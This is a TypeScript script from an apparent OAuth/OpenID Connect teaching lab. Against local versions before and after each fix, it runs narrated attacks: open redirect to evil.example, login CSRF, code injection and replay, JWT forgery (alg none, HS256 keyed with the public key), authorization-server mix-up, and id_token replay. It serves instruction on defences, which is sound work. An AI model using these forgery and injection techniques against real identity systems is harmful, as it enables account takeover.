// npm run attack <name> [version]: run one of the lab's attacks against a version, narrated
// step by step, and say whether it worked. Without a version, it runs against the version
// before the fix and the version with it, so an instructor can show both in one go.
// Everything runs in this process on 127.0.0.1, on free ports: no running lab is touched.

import path from 'node:path';
import {
  decodeJwt,
  decodeProtectedHeader,
  exportSPKI,
  generateKeyPair,
  importJWK,
  SignJWT,
  type JWK,
  type JWTPayload,
} from 'jose';
import request from 'supertest';
import type { RunningLab } from '../shared/lab.ts';
import { apiGet, apiUrl } from './lib/api.ts';
import { Browser } from './lib/browser.ts';
import { authorizeUrl, locationParams, loggedInBrowser, runFlow, throughAs } from './lib/flow.ts';
import { startVersion } from './lib/lab.ts';
import { HONEST, HOSTILE, startMixUp } from './lib/mixup-client.ts';
import { naiveSignIn } from './lib/naive-rp.ts';
import { naiveValidate } from './lib/naive-validator.ts';
import { asState, clientTokens, storedAccessToken } from './lib/state.ts';
import {
  basic,
  codeForm,
  DEMO,
  freshCode,
  OTHER,
  postRefresh,
  postToken,
  tokensFor,
} from './lib/token.ts';
import { findVersion, listVersions, versionsDir } from './versions.mjs';

interface Attack {
  /** The first version that stops it. */
  fixedIn: string;
  summary: string;
  /**
   * Runs the attack, narrating with say(): true when the attacker got what they wanted,
   * 'n/a' when the version lacks what the attack targets (no token endpoint yet, say).
   * `version` is the lab's, for attacks that start parties of their own beside it.
   */
  run(
    lab: RunningLab<'as' | 'client'>,
    say: (line: string) => void,
    version: string,
  ): Promise<boolean | 'n/a'>;
}

/** v07+: the AS is an OpenID Provider, and its tokens can say who logged in. */
async function speaksOpenIdConnect(lab: RunningLab<'as'>) {
  return (await fetch(`${lab.urls.as}/.well-known/openid-configuration`)).status === 200;
}

/** The AS's published keys (v06+). */
async function jwksOf(lab: RunningLab<'as'>) {
  return ((await (await fetch(`${lab.urls.as}/jwks.json`)).json()) as { keys: JWK[] }).keys;
}

/** What a login at the lab's client must bring back: its `nonce`, sent when a login starts. */
async function startLogin(lab: RunningLab<'client'>) {
  const browser = new Browser();
  return locationParams(await browser.get(`${lab.urls.client}/login`)).get('nonce')!;
}

/**
 * Run the checks `version`'s client runs on every id_token before it says who logged in
 * (client/id-token.ts, v07+), for a login at `lab` that sent `nonce`: the failed check, or
 * undefined when the token passes them all.
 */
async function clientRefuses(
  version: string,
  lab: RunningLab<'as'>,
  token: string,
  { nonce, accessToken }: { nonce: string; accessToken: string },
): Promise<{ check: string; message: string } | undefined> {
  const { validateIdToken } = (await import(
    path.join(versionsDir, version, 'client', 'id-token.ts')
  )) as {
    validateIdToken(token: string, expected: Record<string, unknown>): Promise<JWTPayload>;
  };
  try {
    await validateIdToken(token, {
      issuer: lab.urls.as,
      clientId: DEMO.id,
      keys: await jwksOf(lab),
      nonce,
      accessToken,
      maxAge: undefined,
      now: Date.now,
    });
    return undefined;
  } catch (err) {
    if (!(err instanceof Error) || !('check' in err)) throw err;
    return { check: String(err.check), message: err.message };
  }
}

/** The redirect URI other-client registered: never opened, the code is read off the redirect. */
const OTHER_REDIRECT = 'http://localhost:9999/callback';

const attacks: Record<string, Attack> = {
  'open-redirect': {
    fixedIn: 'v01',
    summary: 'make the AS redirect a user (with a code) to the attacker’s site',
    async run(lab, say) {
      const victim = await loggedInBrowser(lab);
      const url = authorizeUrl(lab, { redirect_uri: 'http://evil.example/callback' });
      say(`The attacker sends the victim a link to the real AS:\n    ${url}`);
      const page = await victim.get(url);
      say(
        `The AS answers ${page.status}${page.location ? ` → ${page.location}` : ' with a page of its own'}.`,
      );
      return page.location?.startsWith('http://evil.example') ?? false;
    },
  },
  'login-csrf': {
    fixedIn: 'v02',
    summary: 'slip the attacker’s own authorization code into the victim’s session',
    async run(lab, say) {
      const attacker = await runFlow(lab, { username: 'user1', land: false });
      say(
        `The attacker logs in as user1 and stops before the callback:\n    ${attacker.authorizationResponse.location}`,
      );
      const victim = new Browser();
      const page = await victim.get(attacker.authorizationResponse.location!);
      say(
        `The victim's browser opens that link (a link, an <img>): the client answers ${page.status}.`,
      );
      if (page.text.includes('Callback refused'))
        say('The client refuses it: this browser never started that login.');
      return page.status === 200;
    },
  },
  'login-csrf-as': {
    fixedIn: 'v02',
    summary: 'log the victim into the AS as the attacker, with a form posted from another site',
    async run(lab, say) {
      const victim = new Browser();
      const posted = await victim.post(`${lab.urls.as}/login`, {
        username: 'user1',
        password: 'password1',
      });
      say(
        'A page on another site (another localhost port will do) auto-posts the AS login form ' +
          `in the victim's browser, with the attacker's password: the AS answers ${posted.status}.`,
      );
      if (posted.status === 403) say('The AS refuses it: the post did not carry the form’s token.');
      const flow = await runFlow(lab, { browser: victim, username: 'user0', land: false });
      const code = flow.params.get('code')!;
      const codeIsFor = (await asState(lab)).codes[code]?.username;
      say(
        `Later the victim clicks Log in at the client, as user0 if asked: the code is for ${codeIsFor}.`,
      );
      return codeIsFor === 'user1';
    },
  },
  'code-injection': {
    fixedIn: 'v03',
    summary: 'inject a stolen code into the attacker’s own flow at the real client',
    async run(lab, say) {
      const victim = await runFlow(lab, { username: 'user0', land: false });
      const stolen = victim.params.get('code')!;
      say(`The attacker steals the victim's code from a log or a Referer: ${stolen}`);
      const attacker = await runFlow(lab, { username: 'user1', land: false });
      const callback = new URL(attacker.authorizationResponse.location!);
      callback.searchParams.set('code', stolen);
      say(
        'The attacker starts a login of their own and swaps the stolen code into their callback.',
      );
      const page = await attacker.browser.get(callback.href);
      const accepted = page.status === 200;
      say(
        accepted
          ? 'The client accepts it: its state matches, because it is the attacker’s own flow.'
          : 'The client redeems it with the attacker’s PKCE verifier, and the AS refuses: invalid_grant.',
      );
      return accepted;
    },
  },
  'code-replay': {
    fixedIn: 'v03',
    summary: 'redeem an already-used code a second time',
    async run(lab, say) {
      const code = await freshCode(lab);
      const first = await postToken(lab, codeForm(lab, code));
      if (first.status === 404) {
        say('This version has no token endpoint: nothing redeems codes yet.');
        return 'n/a';
      }
      say(`The client redeems the code: ${first.status}.`);
      const second = await postToken(lab, codeForm(lab, code));
      say(`Someone redeems the same code again: ${second.status} ${JSON.stringify(second.body)}`);
      if (second.status !== 200 && first.status === 200) {
        const stillThere = await storedAccessToken(lab, first.body.access_token);
        say(`The first access token ${stillThere ? 'still works' : 'is revoked too'}.`);
      }
      return second.status === 200;
    },
  },
  'no-token': {
    fixedIn: 'v04',
    summary: 'read a user’s notes without a token, or with a made-up one',
    async run(lab, say) {
      const bare = await request(apiUrl(lab)).get('/api/notes');
      if (bare.status === 404) {
        say('This version has no API yet: the token opens nothing.');
        return 'n/a';
      }
      say(
        `GET /api/notes without a token: ${bare.status} ${bare.headers['www-authenticate'] ?? ''}`,
      );
      const forged = await apiGet(lab, '/api/notes', 'forged');
      say(
        `GET /api/notes with a made-up token: ${forged.status} ${forged.headers['www-authenticate'] ?? ''}`,
      );
      return bare.status === 200 || forged.status === 200;
    },
  },
  'refresh-replay': {
    fixedIn: 'v05',
    summary: 'keep using a stolen token after the victim noticed nothing',
    async run(lab, say) {
      const { browser } = await runFlow(lab);
      const tokens = await clientTokens(lab, browser);
      if (!tokens.refresh_token) {
        say('There are no refresh tokens: the thief copies the access token instead.');
        const use = await apiGet(lab, '/api/me', tokens.access_token);
        say(
          `The thief calls the API with it: ${use.status}. It works until it expires, and nothing can revoke it.`,
        );
        return use.status === 200;
      }
      const thief = await postRefresh(lab, tokens.refresh_token);
      say(`The thief uses the stolen refresh token: ${thief.status}, a fresh pair.`);
      const client = await postRefresh(lab, tokens.refresh_token);
      say(
        `The real client refreshes with the same token: ${client.status} ${client.body.error ?? ''}`,
      );
      const after = await apiGet(lab, '/api/me', thief.body.access_token);
      say(`The thief's new access token now: ${after.status}. The whole family is revoked.`);
      return after.status === 200;
    },
  },
  'jwt-forgery': {
    fixedIn: 'v06',
    summary: 'forge a JWT access token: alg none, HS256 with the public key, another key',
    async run(lab, say) {
      const rs = (lab.urls as Record<string, string>).rs;
      if (!rs) {
        say('Access tokens are opaque here: only the AS, which keeps them, knows what they mean.');
        say('Forging one means guessing 256 random bits. The danger comes with JWTs (v06).');
        return 'n/a';
      }
      const real = (await tokensFor(lab, { scope: 'profile' })).access_token;
      const header = decodeProtectedHeader(real);
      const claims = { ...decodeJwt(real), sub: 'user1' }; // someone else's identity
      say(`The attacker holds a real token of user0's and rewrites it to say sub=user1.`);
      const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
      const jwks = (await (await fetch(`${lab.urls.as}/jwks.json`)).json()) as { keys: JWK[] };
      const publicKey = await importJWK(jwks.keys[0]!, 'RS256', { extractable: true });
      const pem = await exportSPKI(publicKey as Parameters<typeof exportSPKI>[0]);
      const { privateKey } = await generateKeyPair('RS256');
      const forgeries: Array<[string, string]> = [
        ['alg: none, no signature', `${part({ alg: 'none', typ: 'at+jwt' })}.${part(claims)}.`],
        [
          'HS256, keyed with the AS’s public key',
          await new SignJWT(claims)
            .setProtectedHeader({ alg: 'HS256', typ: 'at+jwt', kid: header.kid! })
            .sign(new TextEncoder().encode(pem)),
        ],
        [
          'RS256, signed with the attacker’s own key',
          await new SignJWT(claims)
            .setProtectedHeader({ alg: 'RS256', typ: 'at+jwt', kid: header.kid! })
            .sign(privateKey),
        ],
      ];
      let accepted = false;
      for (const [how, forged] of forgeries) {
        const naive = naiveValidate(forged, 'profile') ? 'accepts it' : 'refuses it';
        const answer = await apiGet(lab, '/api/me', forged);
        say(
          `${how}: a decode-only validator ${naive}; the resource server answers ${answer.status} ${answer.body.error_description ?? JSON.stringify(answer.body)}`,
        );
        accepted ||= answer.status === 200;
      }
      return accepted;
    },
  },
  'mix-up': {
    fixedIn: 'v07',
    summary: 'a hostile AS gets a client that knows it to send it a code the honest AS issued',
    async run(_lab, say, version) {
      const { client, honest, hostile, close } = await startMixUp(version);
      try {
        if ((await postToken(honest, {})).status === 404) {
          say('This version has no token endpoint: a code is worth nothing to anyone yet.');
          return 'n/a';
        }
        say(
          'A client lets each user log in with one of two authorization servers: this ' +
            `version's AS (${honest.urls.as}) or the Hostile AS, which the attacker runs ` +
            `(${hostile.url}). It registered with both, and uses one redirect URI for both: ` +
            `${client.redirectUri}. Like v07's client, it checks the iss of every answer that ` +
            'has one, and demands one from an AS that promised it (RFC 9207 §2.4).',
        );
        const attacker = new Browser();
        const own = locationParams(await attacker.get(client.loginUrl(HONEST)));
        hostile.plantedChallenge = own.get('code_challenge')!;
        say(
          'The attacker starts a login of their own at the client, with the honest AS, and ' +
            'stops at its login page. The PKCE challenge the client sent goes to the hostile ' +
            `AS: ${hostile.plantedChallenge}`,
        );
        const victim = new Browser();
        const start = await victim.get(client.loginUrl(HOSTILE));
        say(
          'The victim clicks "Log in with Hostile AS" (a link from the attacker, a wrong ' +
            'button). The client keeps that choice in the victim’s session and sends the ' +
            'browser there, with the client’s id at the hostile AS, a state and a PKCE challenge.',
        );
        const onward = await victim.follow(start);
        say(
          'The hostile AS sends the browser straight on to the honest AS, with the client’s id ' +
            'there (demo-client), the victim’s state untouched, and the attacker’s PKCE ' +
            `challenge in place of the victim's:\n    ${onward.location}`,
        );
        const response = await throughAs(victim, onward, client.redirectUri);
        const iss = locationParams(response).get('iss');
        say(
          'The victim sees the honest AS’s own login page (only a wary one notices it is not ' +
            'the AS they picked), logs in as user0 and allows the client. The honest AS sends ' +
            `the code back${iss ? ', naming itself in iss' : ''}:\n    ${response.location}`,
        );
        if (!iss) {
          say(
            'Nothing in it says which AS sent it (no iss), and this AS’s metadata promised ' +
              'none: the client has nothing to check.',
          );
        }
        const callback = await victim.follow(response);
        const stolen = hostile.tokenRequests[0]?.form;
        if (!stolen) {
          const refusal = /issuer_mismatch: [^<]*/.exec(callback.text)?.[0];
          say(`The client refuses it, ${callback.status}: ${refusal ?? callback.text}`);
          say(
            'It redeems the code nowhere: the hostile AS gets nothing. Nor can the attacker ' +
              'strip the iss: the answer goes from the honest AS through the victim’s browser ' +
              'to the client, never through the hostile AS.',
          );
          return false;
        }
        say(
          'The state matches. Sure that the code came from the AS this login went to, the ' +
            'client redeems it at the hostile AS’s token endpoint, with its credentials there: ' +
            `code=${stolen.code} code_verifier=${stolen.code_verifier}. The hostile AS answers ` +
            'invalid_grant; the victim sees a failed login and tries again.',
        );
        const direct = await postToken(honest, { ...stolen, client_id: DEMO.id }, null);
        say(
          'The attacker holds a code the honest AS issued to demo-client for user0. Redeeming ' +
            'it there takes demo-client’s secret, which the attacker lacks: ' +
            `${direct.status} ${direct.body.error}. (Against a public client, which has no ` +
            'secret, the hostile AS would pass the victim’s own challenge on and redeem the ' +
            'code with the verifier the client sends it: RFC 9700 §4.4.1.)',
        );
        const injected = new URL(client.redirectUri);
        injected.searchParams.set('code', stolen.code!);
        injected.searchParams.set('state', own.get('state')!);
        // The honest AS's issuer is public: a forged callback can name it as well as any.
        injected.searchParams.set('iss', honest.urls.as);
        const before = client.tokenRequests.length;
        const page = await attacker.get(injected.href);
        say(
          'So the attacker injects it into their own login at the client (RFC 9700 §4.5), ' +
            `opening the callback of that login with the victim's code: ${page.status}.`,
        );
        const redeemed = client.tokenRequests.slice(before).find(({ as }) => as === HONEST);
        const token = redeemed?.body.access_token;
        const owner =
          typeof token === 'string' ? await storedAccessToken(honest, token) : undefined;
        say(
          owner
            ? 'The client redeems it at the honest AS, with its secret and the verifier of the ' +
                'attacker’s login, which fits: the hostile AS put that login’s challenge in the ' +
                'victim’s request, so PKCE binds the code to the attacker. The attacker is ' +
                `signed in at the client with ${owner.username}'s tokens.`
            : redeemed
              ? `The client redeems it at the honest AS, which refuses: ${redeemed.status} ${String(redeemed.body.error)}.`
              : `The client does not redeem it: ${page.text.replace(/^.*<\/h1>|<[^>]*>/gs, '')}`,
        );
        return true;
      } finally {
        await close();
      }
    },
  },
  'id-token-replay': {
    fixedIn: 'v07',
    summary: 'log in as the victim with their id_token from an earlier login',
    async run(lab, say, version) {
      if (!(await speaksOpenIdConnect(lab))) {
        say('There are no id_tokens yet: the client learns who logged in from /api/me, with');
        say('the access token it redeemed itself. Nothing to replay (OpenID Connect: v07).');
        return 'n/a';
      }
      const { browser } = await runFlow(lab);
      const victims = (await clientTokens(lab, browser)) as {
        access_token: string;
        id_token?: string;
      };
      const idToken = victims.id_token!;
      say(`user0 logs in at the client, which gets an id_token: ${idToken.slice(0, 40)}…`);
      say(
        'The attacker gets hold of it and the access token beside it (a log, a leaky page) ' +
          'and, within the id_token’s five minutes, starts a login of their own at the ' +
          'client and presents the two as its answer.',
      );
      const nonce = await startLogin(lab);
      const naive = await naiveSignIn(idToken, { issuer: lab.urls.as, keys: await jwksOf(lab) });
      say(
        'A relying party that checks the signature, the issuer and the expiry, and no ' +
          `nonce: ${naive ? `signs the attacker in as ${naive}` : 'refuses it'}.`,
      );
      const refused = await clientRefuses(version, lab, idToken, {
        nonce,
        accessToken: victims.access_token,
      });
      say(
        refused
          ? `The client's checks (client/id-token.ts) refuse it: ${refused.check}. ${refused.message}`
          : 'The client’s checks (client/id-token.ts) accept it.',
      );
      say(
        '(In the code flow the id_token comes from the AS’s token endpoint, not from the ' +
          'browser. The nonce refuses one that arrives another way: the implicit or hybrid ' +
          'flow, an app that posts it to its server.)',
      );
      return !refused;
    },
  },
  'access-token-as-login': {
    fixedIn: 'v07',
    summary: 'log in with tokens another app got; call the API with an id_token',
    async run(lab, say, version) {
      if (!(await speaksOpenIdConnect(lab))) {
        say('There is no id_token yet: access tokens are all there is, and the client learns');
        say('who logged in from /api/me, with one it redeemed itself (OpenID Connect: v07).');
        return 'n/a';
      }
      const code = await freshCode(lab, {
        client_id: OTHER.id,
        redirect_uri: OTHER_REDIRECT,
        scope: 'openid profile',
      });
      const other = await postToken(
        lab,
        codeForm(lab, code, { redirect_uri: OTHER_REDIRECT }),
        basic(OTHER.id, OTHER.secret),
      );
      const audOf = (token: string) => JSON.stringify(decodeJwt(token).aud);
      say(
        'user0 also uses another app, other-client, which gets an access token for user0 ' +
          `(aud ${audOf(other.body.access_token)}) and an id_token (aud ` +
          `${audOf(other.body.id_token)}). Whoever runs that app, or stole from it, presents ` +
          'each to the demo client as proof that user0 just logged in.',
      );
      let accepted = false;
      const keys = await jwksOf(lab);
      for (const [what, token] of [
        ['The access token', other.body.access_token as string],
        ['Other-client’s id_token', other.body.id_token as string],
      ] as const) {
        const naive = await naiveSignIn(token, { issuer: lab.urls.as, keys });
        const refused = await clientRefuses(version, lab, token, {
          nonce: await startLogin(lab),
          accessToken: other.body.access_token,
        });
        say(
          `${what}: a relying party that checks the signature, the issuer and the expiry ` +
            `${naive ? `signs them in as ${naive}` : 'refuses it'}; the client's checks ` +
            `${refused ? `refuse it: ${refused.check}. ${refused.message}` : 'accept it.'}`,
        );
        accepted ||= !refused;
      }
      say('An access token is for the API, an id_token for the client it names in aud.');
      const { browser } = await runFlow(lab);
      const idToken = ((await clientTokens(lab, browser)) as { id_token?: string }).id_token!;
      const answer = await apiGet(lab, '/api/me', idToken);
      const challenge = answer.headers['www-authenticate'] ?? '';
      const [, error, description] =
        /error="([^"]*)", error_description="([^"]*)"/.exec(challenge) ?? [];
      say(
        `The other way round: user0's id_token for the demo client, sent to the API as a ` +
          `Bearer token: ${answer.status} ${error ?? ''}: ${description ?? challenge}`,
      );
      return accepted || answer.status === 200;
    },
  },
};

const [name, requested] = process.argv.slice(2);
const attack = name ? attacks[name] : undefined;
if (!attack) {
  console.error(
    'Usage: npm run attack <name> [version]\n\nAttacks, and the version that stops each:',
  );
  for (const [key, { fixedIn, summary }] of Object.entries(attacks)) {
    console.error(`  ${key.padEnd(22)} ${fixedIn}  ${summary}`);
  }
  process.exit(name ? 1 : 0);
}

const fixNumber = Number(attack.fixedIn.slice(1));
const versions = requested
  ? [findVersion(requested)]
  : [fixNumber - 1, fixNumber].map((n) => findVersion(`v${n}`)).filter(Boolean);
if (versions.some((version) => !version)) {
  console.error(
    `There is no version called "${requested}". Versions: ${listVersions().join(', ')}`,
  );
  process.exit(1);
}

for (const version of versions as string[]) {
  console.log(`\n== ${name} against ${version}`);
  const lab = await startVersion(version);
  try {
    const worked = await attack.run(lab, (line) => console.log(`  ${line}`), version);
    console.log(
      worked === 'n/a'
        ? `  – nothing to attack in ${version}`
        : worked
          ? `  ✗ ATTACK WORKED against ${version}`
          : `  ✓ attack stopped by ${version}`,
    );
  } finally {
    await lab.close();
  }
}
